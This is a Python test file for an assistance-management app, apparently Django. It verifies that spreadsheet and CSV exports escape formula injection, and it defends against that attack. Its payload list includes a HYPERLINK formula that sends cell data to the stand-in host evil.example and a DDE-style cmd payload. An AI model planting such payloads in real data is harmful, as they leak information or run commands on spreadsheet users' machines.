"""Formula injection: nothing people typed comes out of an xlsx or csv export as a live formula."""
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from carenet.assistance import models as m
from carenet.core.exports import safe_cell
from tests.assistance.test_django_payroll import aa, approved_case, clock  # noqa: F401 (fixtures)
from tests.factories import ResidentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def _dangerous(text) -> bool:
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "", "-12.50", "3.5", 42, None, "a=b"])
def test_safe_cell_leaves_plain_values(value):
    assert safe_cell(value) == value


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_elder_export_writes_no_formula(area, login):
    r = area.elder_a.resident
    r.name, r.address, r.phone = "=1+1", PAYLOADS[1], "@SUM(A1)"
    r.save()
    cells = _xlsx_cells(login(area.worker_a).get("/people/elders/export.xlsx").content)
    assert not [c.value for c in cells if c.data_type == "f" or _dangerous(c.value)]
    assert "'=1+1" in [c.value for c in cells]


def test_bank_file_and_notice_write_no_formula(aa, clock, client, monkeypatch):  # noqa: F811
    from carenet.assistance import jobs, services

    applicant = ResidentFactory(division=aa.comm_a, name="=HYPERLINK(1)", birth_date=dt.date(1970, 5, 1))
    case = approved_case(aa, clock, applicant=applicant)
    m.Entitlement.objects.filter(pk=case.entitlement.pk).update(payee_name="-2+3")
    month = case.entitlement.start_month
    clock.set(month.replace(day=5))
    run = jobs.execute(services.start_payroll(aa.approver, run_month=month, program="*", area=aa.district).pk)
    client.force_login(aa.approver)
    body = client.get(reverse("assistance:bank_file", args=[run.pk, "csv"])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][1] == "'-2+3"
    assert not [v for row in rows for v in row if _dangerous(v)]
    cells = _xlsx_cells(client.get(reverse("assistance:bank_file", args=[run.pk, "xlsx"])).content)
    assert "'-2+3" in [c.value for c in cells]
    assert not [c.value for c in cells if c.data_type == "f" or _dangerous(c.value)]


def test_every_module_that_writes_a_spreadsheet_uses_the_safe_writer():
    """A new export that forgets the helper fails here: writing xlsx/csv requires importing carenet.core.exports."""
    src = Path(__file__).resolve().parents[2] / "src" / "carenet"
    offenders = []
    for path in src.rglob("*.py"):
        if "migrations" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        writes = re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(", text)
        uses_guard = "carenet.core.exports" in text or re.search(r"from carenet\.core import [^\n]*\bexports\b", text)
        if writes and not uses_guard:
            offenders.append(str(path.relative_to(src)))
        if re.search(r"csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(f"{path.relative_to(src)} (raw csv writer)")
        if re.search(r"\bws\.append\(|\bs\.append\(\[", text):
            offenders.append(f"{path.relative_to(src)} (raw worksheet append)")
    assert offenders == []
